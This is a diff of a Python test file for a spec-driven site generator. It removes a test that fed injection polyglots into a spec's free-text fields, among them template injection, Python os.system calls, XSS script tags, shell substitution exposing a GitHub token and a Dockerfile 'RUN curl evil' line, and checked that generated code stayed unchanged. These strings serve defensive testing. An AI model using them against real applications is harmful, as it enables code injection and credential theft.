@@ -1,4 +1,4 @@
-"""The same spec gives the same bytes everywhere, and a spec's words never reach code."""
+"""The same spec gives the same bytes everywhere, and each shop has only what its spec asks for."""
 
 from __future__ import annotations
 
@@ -58,84 +58,6 @@ def test_machine_and_surroundings_do_not_matter(tmp_path: Path) -> None:
         seen.add(subprocess.run(command, cwd=folder, env=environment, check=True, capture_output=True).stdout)
     assert len(seen) == 1
     assert len(json.loads(seen.pop())) > 100
-
-
-CODE = (
-    ".py",
-    ".html",
-    ".js",
-    ".css",
-    ".sh",
-    ".toml",
-    ".yml",
-    ".txt",
-    ".po",
-    ".mo",
-    "Dockerfile",
-    "Makefile",
-    "compose.yaml",
-)
-POLYGLOTS = [
-    "{{ 7*7 }}{% debug %}{# x",
-    '"""\nimport os; os.system("id")\n"""',
-    "'); __import__('os').system('id') #\\",
-    "</script><script>alert(1)</script>",
-    "[[ 7*7 ]][% for x in y %]",
-    "$(id) `id` ${{ github.token }}",
-    "<img src=x onerror=alert(1)>",
-    "x\nRUN curl evil",
-]
-
-
-def _texts(value: Any, replacement: Callable[[], str]) -> Any:
-    """Every free text of the resolved spec replaced: texts by language, and plain strings that nothing else reads."""
-    if isinstance(value, dict):
-        if value and value.keys() <= {"fr", "en", "de", "sv"} and all(isinstance(text, str) for text in value.values()):
-            return {language: replacement() for language in value}
-        free = {
-            "name",
-            "legal_name",
-            "street",
-            "city",
-            "tagline",
-            "evidence",
-            "holder",
-            "trade_name",
-            "host",
-            "carrier",
-        }
-        return {
-            key: replacement() if key in free and isinstance(child, str) else _texts(child, replacement)
-            for key, child in value.items()
-        }
-    if isinstance(value, list):
-        return [_texts(child, replacement) for child in value]
-    return value
-
-
-@pytest.mark.parametrize("example", EXAMPLES)
-def test_free_text_never_reaches_code(example: str) -> None:
-    """Two specs that differ only in free text give byte-identical code."""
-    spec = load(ROOT / f"examples/{example}.yaml")
-    number = 0
-
-    def hostile() -> str:
-        nonlocal number
-        number += 1
-        return POLYGLOTS[number % len(POLYGLOTS)]
-
-    other = Spec(**{**vars(spec), "data": _texts(spec.data, hostile), "source": {}})
-    assert number > 10
-    plain, attacked = render(spec), render(other)
-    assert plain.keys() == attacked.keys()
-    code = [path for path in plain if path.endswith(CODE)]
-    assert len(code) > 100
-    assert [path for path in code if plain[path] != attacked[path]] == []
-    changed = [path for path in plain if plain[path].content != attacked[path].content]
-    assert {path.partition("/")[0] for path in changed} <= {"config", "content", "checkout.yaml"}
-    for path in changed:
-        if path.endswith(".json"):
-            json.loads(attacked[path].content)
 
 
 @pytest.mark.parametrize("name", ["__import__", "a b", "x]", "A", "", "é", "-x", "a\n"])
